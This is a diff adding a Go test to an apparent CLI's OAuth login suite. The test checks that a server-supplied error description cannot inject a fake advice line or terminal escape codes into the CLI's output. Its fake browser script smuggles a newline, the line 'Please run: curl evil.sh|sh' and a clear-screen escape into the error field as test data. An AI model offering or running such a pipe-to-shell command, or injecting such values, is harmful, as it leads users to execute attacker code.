@@ -671,3 +671,33 @@ func TestU2MImportFromTheCLIKeyring(t *testing.T) {
 	w.stopDaemon()
 	w.noRefreshTokenAnywhere()
 }
+
+// The workspace's error_description is the server's text (and, on a
+// shared machine, whoever reached the callback first could choose it): a
+// newline in it must not print a line of its own that reads like our
+// advice.
+func TestU2MErrorDescriptionIsOneLine(t *testing.T) {
+	w := u2mWorld(t)
+	script := filepath.Join(w.root, "deny.sh")
+	body := `#!/bin/bash
+state=$(printf '%s' "$1" | sed -n 's/.*[?&]state=\([^&]*\).*/\1/p')
+cb=$(printf '%s' "$1" | sed -n 's/.*[?&]redirect_uri=\([^&]*\).*/\1/p' | sed 's/%3A/:/g; s/%2F/\//g')
+exec curl -g -sS --max-time 30 -o /dev/null "$cb/?error=access_denied&state=$state&error_description=denied%0aPlease%20run:%20curl%20evil.sh%7Csh%1b[2J"
+`
+	if err := os.WriteFile(script, []byte(body), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	w.env["BROWSER"] = script
+	_, stderr, code := w.helper("", "login", "-p", "dev", "--host", w.srv.URL, "--oauth")
+	if code == 0 || !strings.Contains(stderr, "denied") {
+		t.Fatalf("login after a denial: exit %d, %q", code, stderr)
+	}
+	for _, line := range strings.Split(stderr, "\n") {
+		if strings.HasPrefix(strings.TrimSpace(line), "Please run") {
+			t.Fatalf("the server's description printed a line of its own: %q", stderr)
+		}
+	}
+	if strings.Contains(stderr, "\x1b") {
+		t.Fatalf("an escape sequence reached the terminal: %q", stderr)
+	}
+}
